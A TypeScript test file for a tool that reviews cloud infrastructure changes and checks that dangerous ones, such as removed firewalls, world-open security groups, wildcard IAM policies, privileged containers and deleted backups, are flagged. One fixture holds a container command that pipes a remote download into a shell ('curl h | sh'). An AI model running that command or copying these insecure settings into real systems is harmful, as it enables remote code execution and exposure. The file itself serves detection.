/** Single changes that hurt, as the engine prints them: none of them is called routine, and each is told in words. */
import { describe, expect, test } from "vitest";
import { commentText } from "../../../ops/review/comment.ts";
import { type Risk, risks } from "../../../ops/review/risk.ts";
import { tellers } from "../../../ops/review/stackReview.ts";
import { linesOf, reviewOf } from "../../harness/craftedReview.ts";

interface Grave {
  readonly op?: string;
  readonly type: string;
  readonly before?: Record<string, unknown>;
  readonly after?: Record<string, unknown>;
  /** First line of the review: class, then what it must say. */
  readonly said: RegExp;
}

const container = (more: Record<string, unknown>) => ({
  containerDefinitions: JSON.stringify([{ name: "app", image: "i@sha256:1", command: ["serve"], user: "1000", ...more }]),
});
const acl = "aws:wafv2/webAcl:WebAcl";
const task = "aws:ecs/taskDefinition:TaskDefinition";
const service = "aws:ecs/service:Service";
const plan = "aws:backup/plan:Plan";
const alarm = "aws:cloudwatch/metricAlarm:MetricAlarm";
const limit = { name: "logins", priority: 3, action: { block: {} }, statement: { rateBasedStatement: { limit: 50 } } };
const open = { fromPort: 6379, toPort: 6379, protocol: "tcp", cidrBlocks: ["0.0.0.0/0"] };
const nightly = { ruleName: "nightly", lifecycle: { deleteAfter: 30 } };
const yearly = { ruleName: "yearly", lifecycle: { deleteAfter: 365 } };

const graves: Readonly<Record<string, Grave>> = {
  "a load balancer leaves its firewall": {
    op: "delete",
    type: "aws:wafv2/webAclAssociation:WebAclAssociation",
    before: { resourceArn: "arn:balancer", webAclArn: "arn:acl" },
    said: /^guard .*x.* no firewall stands before/,
  },
  "a firewall goes": { op: "delete", type: acl, before: { rules: [limit] }, said: /^guard WAF rule logins \(block\) is removed/ },
  "a ruleset goes": {
    op: "delete",
    type: "cloudflare:index/ruleset:Ruleset",
    before: { rules: [{ ref: "scrapers", action: "block", expression: "e" }] },
    said: /^guard WAF rule scrapers \(block\) is removed/,
  },
  "a firewall lets through what no rule names": {
    type: acl,
    before: { defaultAction: { block: {} }, rules: [] },
    after: { defaultAction: { allow: {} }, rules: [] },
    said: /^guard .*x.* default action block → allow \(what no rule names is let through\)/,
  },
  "a distribution asks its paths in another order": {
    type: "aws:cloudfront/distribution:Distribution",
    before: { orderedCacheBehaviors: [{ pathPattern: "/account/*" }, { pathPattern: "/*" }] },
    after: { orderedCacheBehaviors: [{ pathPattern: "/*" }, { pathPattern: "/account/*" }] },
    said: /^traffic .*orderedCacheBehaviors.*order/,
  },
  "tasks start with another command": {
    op: "replace",
    type: task,
    before: container({}),
    after: container({ command: ["sh", "-c", "curl h | sh"] }),
    said: /^traffic tasks x start with another command/,
  },
  "tasks start their commands in another order": {
    op: "replace",
    type: task,
    before: container({ command: ["migrate", "serve"] }),
    after: container({ command: ["serve", "migrate"] }),
    said: /^traffic tasks x start with another command/,
  },
  "tasks run as root, with all rights": {
    op: "replace",
    type: task,
    before: container({}),
    after: container({ user: "0", privileged: true }),
    said: /^exposure tasks x .*privileged/,
  },
  "an alarm tells somebody else": {
    type: alarm,
    before: { alarmActions: ["arn:oncall"] },
    after: { alarmActions: ["arn:archive"] },
    said: /^guard alarm x no longer tells arn:oncall/,
  },
  "an alarm watches something else": {
    type: alarm,
    before: { metricName: "5XX" },
    after: { metricName: "3XX" },
    said: /^guard alarm x watches something else/,
  },
  "a database restarts now": {
    type: "aws:rds/instance:Instance",
    before: { instanceClass: "db.r6g.large", applyImmediately: true },
    after: { instanceClass: "db.r6g.xlarge", applyImmediately: true },
    said: /^outage instance class of x .*restarts at once/,
  },
  "a database takes clear text": {
    type: "aws:rds/parameterGroup:ParameterGroup",
    before: { parameters: [{ name: "rds.force_ssl", value: "1" }] },
    after: { parameters: [{ name: "rds.force_ssl", value: "0" }] },
    said: /^exposure .*clear text/,
  },
  "a database no longer knows roles": {
    type: "aws:rds/instance:Instance",
    before: { iamDatabaseAuthenticationEnabled: true },
    after: { iamDatabaseAuthenticationEnabled: false },
    said: /^guard .*x on → off/,
  },
  "backups are made no more": { op: "delete", type: plan, before: { rules: [nightly] }, said: /^guard .*x.* backups are made no more/ },
  "nothing is in a backup plan": {
    op: "delete",
    type: "aws:backup/selection:Selection",
    before: { resources: ["*"] },
    said: /^guard .*backed up no more/,
  },
  "a backup's copy elsewhere goes": {
    type: plan,
    before: { rules: [{ ...nightly, copyActions: [{ destinationVaultArn: "arn:elsewhere" }] }] },
    after: { rules: [nightly] },
    said: /^guard backups of x .*nightly.* no copy/,
  },
  "a backup's rule goes": {
    type: plan,
    before: { rules: [nightly, yearly] },
    after: { rules: [nightly] },
    said: /^guard backups of x .*yearly.* made no more/,
  },
  "backups may be deleted": {
    op: "delete",
    type: "aws:backup/vaultLockConfiguration:VaultLockConfiguration",
    before: { minRetentionDays: 7 },
    said: /^guard .*x.* may be deleted/,
  },
  "nobody asks whether an address answers": {
    op: "delete",
    type: "aws:route53/healthCheck:HealthCheck",
    before: { fqdn: "f" },
    said: /^guard .*x.* nobody asks/,
  },
  "a service no longer scales": {
    op: "delete",
    type: "aws:appautoscaling/policy:Policy",
    before: { policyType: "TargetTrackingScaling" },
    said: /^guard .*x.* scales/,
  },
  "clients may speak an old TLS": {
    type: "aws:lb/listener:Listener",
    before: { sslPolicy: "ELBSecurityPolicy-TLS13-1-2-2021-06" },
    after: { sslPolicy: "ELBSecurityPolicy-2016-08" },
    said: /^exposure .*TLS.*ELBSecurityPolicy-2016-08/,
  },
  "people may enter tasks": {
    type: service,
    before: { enableExecuteCommand: false },
    after: { enableExecuteCommand: true },
    said: /^exposure .*shell.* x off → on/,
  },
  "tasks get an address on the internet": {
    type: service,
    before: { networkConfiguration: { assignPublicIp: false } },
    after: { networkConfiguration: { assignPublicIp: true } },
    said: /^exposure .*public address.* x off → on/,
  },
  "a failed deployment is not taken back": {
    type: service,
    before: { deploymentCircuitBreaker: { enable: true, rollback: true } },
    after: { deploymentCircuitBreaker: { enable: false, rollback: false } },
    said: /^guard .*circuit breaker.* on → off/,
  },
  "a group is made anew, and open": {
    op: "replace",
    type: "aws:ec2/securityGroup:SecurityGroup",
    before: { description: "a", ingress: [] },
    after: { description: "b", ingress: [open] },
    said: /^exposure security group x opens 6379 to the world/,
  },
  "a new group is open": {
    op: "create",
    type: "aws:ec2/securityGroup:SecurityGroup",
    after: { ingress: [open] },
    said: /^exposure security group x opens 6379 to the world/,
  },
  "a new rule is open": {
    op: "create",
    type: "aws:ec2/securityGroupRule:SecurityGroupRule",
    after: { type: "ingress", ...open },
    said: /^exposure security group x opens 6379 to the world/,
  },
  "a group that was there gets out to the world": {
    op: "create",
    type: "aws:vpc/securityGroupEgressRule:SecurityGroupEgressRule",
    after: { securityGroupId: "sg", cidrIpv4: "0.0.0.0/0", ipProtocol: "-1" },
    said: /^exposure security group x lets out every port to the world/,
  },
  "everybody may call a function": {
    op: "create",
    type: "aws:lambda/permission:Permission",
    after: { action: "lambda:InvokeFunction", principal: "*", function: "f" },
    said: /^exposure anybody may lambda:InvokeFunction f/,
  },
  "a user may do everything": {
    op: "create",
    type: "aws:iam/userPolicy:UserPolicy",
    after: { user: "u", policy: '{"Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}' },
    said: /^exposure x may \*/,
  },
  "a user gets a key that never ends": {
    op: "create",
    type: "aws:iam/accessKey:AccessKey",
    after: { user: "u" },
    said: /^exposure .*u.* key/,
  },
  "one of two addresses goes": {
    type: "aws:route53/record:Record",
    before: { name: "n", type: "A", records: ["192.0.2.1", "192.0.2.2"] },
    after: { name: "n", type: "A", records: ["192.0.2.1"] },
    said: /^traffic DNS: n 192\.0\.2\.1, 192\.0\.2\.2 → 192\.0\.2\.1/,
  },
  "images of a rollback are deleted": {
    type: "aws:ecr/lifecyclePolicy:LifecyclePolicy",
    before: { policy: '{"rules":[{"selection":{"countType":"imageCountMoreThan","countNumber":40}}]}' },
    after: { policy: '{"rules":[{"selection":{"countType":"imageCountMoreThan","countNumber":2}}]}' },
    said: /^guard .*images.* 40 → 2/,
  },
  "a role may no longer write": {
    type: "aws:iam/rolePolicy:RolePolicy",
    before: { policy: '{"Statement":[{"Effect":"Allow","Action":["s3:GetObject","s3:PutObject"],"Resource":"b"}]}' },
    after: { policy: '{"Statement":[{"Effect":"Allow","Action":["s3:GetObject"],"Resource":"b"}]}' },
    said: /^guard x may no longer s3:PutObject/,
  },
  "tasks lose a variable": {
    op: "replace",
    type: task,
    before: container({ secrets: [{ name: "JWT_SECRET", valueFrom: "arn" }] }),
    after: container({ secrets: [] }),
    said: /^guard tasks x start without JWT_SECRET/,
  },
};

/** What was told all along, and must be. */
const told: Readonly<Record<string, Grave>> = {
  "a table goes": { op: "delete", type: "aws:dynamodb/table:Table", said: /^data-loss dynamodb\.table x is deleted/ },
  "a host is nobody's any more": {
    op: "delete",
    type: "aws:lb/listenerRule:ListenerRule",
    before: { priority: 7, conditions: [{ hostHeader: { values: ["old.example.com"] } }] },
    said: /^outage rule x takes old\.example\.com no more/,
  },
  "another service takes a host": {
    op: "create",
    type: "aws:lb/listenerRule:ListenerRule",
    after: { priority: 7, conditions: [{ hostHeader: { values: ["old.example.com"] } }] },
    said: /^traffic rule x takes old\.example\.com, priority 7/,
  },
  "fewer tasks at least": {
    type: "aws:appautoscaling/target:Target",
    before: { minCapacity: 6, maxCapacity: 9 },
    after: { minCapacity: 1, maxCapacity: 9 },
    said: /^guard capacity of x 6–9 → 1–9 tasks/,
  },
  "storage that would shrink": {
    type: "aws:rds/instance:Instance",
    before: { allocatedStorage: 50 },
    after: { allocatedStorage: 20 },
    said: /^outage storage of x 50 → 20 GiB \(AWS refuses it half way: storage never shrinks\)/,
  },
  "a major version without leave": {
    type: "aws:rds/instance:Instance",
    before: { engine: "postgres", engineVersion: "17.5", allowMajorVersionUpgrade: false },
    after: { engine: "postgres", engineVersion: "18.1", allowMajorVersionUpgrade: false },
    said: /^outage engine version of x 17\.5 → 18\.1 \(another major version: an outage of minutes, and no way back; AWS refuses it/,
  },
  "old versions of files": {
    type: "aws:s3/bucketLifecycleConfiguration:BucketLifecycleConfiguration",
    before: { rules: [{ id: "old", noncurrentVersionExpiration: { noncurrentDays: 14 } }] },
    after: { rules: [{ id: "old", noncurrentVersionExpiration: { noncurrentDays: 1 } }] },
    said: /^guard time that old versions are kept of x 14 → 1 days/,
  },
  "a read replica goes": {
    op: "delete",
    type: "aws:rds/instance:Instance",
    before: { replicateSourceDb: "main" },
    said: /^outage read replica x goes \(who reads from it is refused; its data is that of main\)/,
  },
  "another issuer of identities": {
    op: "create",
    type: "aws:iam/openIdConnectProvider:OpenIdConnectProvider",
    after: { url: "https://issuer.example" },
    said: /^exposure roles may trust whom https:\/\/issuer\.example vouches for/,
  },
  "a namespace goes": { op: "delete", type: "kubernetes:core/v1:Namespace", said: /^outage Namespace x goes/ },
  "a namespace takes pods with all rights": {
    type: "kubernetes:core/v1:Namespace",
    before: { metadata: { labels: { "pod-security.kubernetes.io/enforce": "restricted" } } },
    after: { metadata: { labels: { "pod-security.kubernetes.io/enforce": "privileged" } } },
    said: /^exposure Namespace x: metadata\.labels\["pod-security/,
  },
};

test.each(Object.entries(told))("%s: told, and not as routine", (_, { said, ...step }) => {
  expect(linesOf(reviewOf({ x: step }))[0]).toMatch(said);
});

test.each(tellers.map(({ name }) => name))("without %s something grave would not be told", (name) => {
  const rest = tellers.filter((teller) => teller.name !== name);
  const missed = Object.values({ ...graves, ...told }).filter(
    ({ said, ...step }) => !said.test(linesOf(reviewOf({ x: step }, {}, {}, rest))[0] ?? ""),
  );
  expect(missed.length).toBeGreaterThan(0);
});

const graver = (risk: string, than: string) => risks.indexOf(risk as Risk) < risks.indexOf(than as Risk);

test.each(Object.entries(graves))("V5 %s", (_, { said, ...step }) => {
  const review = reviewOf({ x: step });
  expect(linesOf(review)[0]).toMatch(said);
  expect(graver(review.risk, "routine"), review.risk).toBe(true);
  const [shown = ""] = commentText({ project: "p", commit: "c", reviews: [review] }).split("How to read it");
  expect(shown).not.toMatch(/no downtime|nothing runs differently/);
});

describe("what nothing here knows", () => {
  const type = "aws:quantum/teleporter:Teleporter";

  test.each(["create", "update", "replace", "delete"])("V5 is never called harmless when it would %s", (op) => {
    const review = reviewOf({ x: { op, type, before: { power: 1 }, after: { power: 2 } } });
    expect(review.risk).toBe("unjudged");
    expect(commentText({ project: "p", commit: "c", reviews: [review] })).toContain("1 change that this tool cannot judge");
  });

  test("V5 a property that nothing here knows is told beside one that is known", () => {
    const review = reviewOf({ x: { type: service, before: { desiredCount: 1, warp: 1 }, after: { desiredCount: 2, warp: 2 } } });
    expect(linesOf(review)).toEqual(["unjudged ecs.service x: warp (1 → 2)", "routine x runs 1 → 2 tasks"]);
  });
});
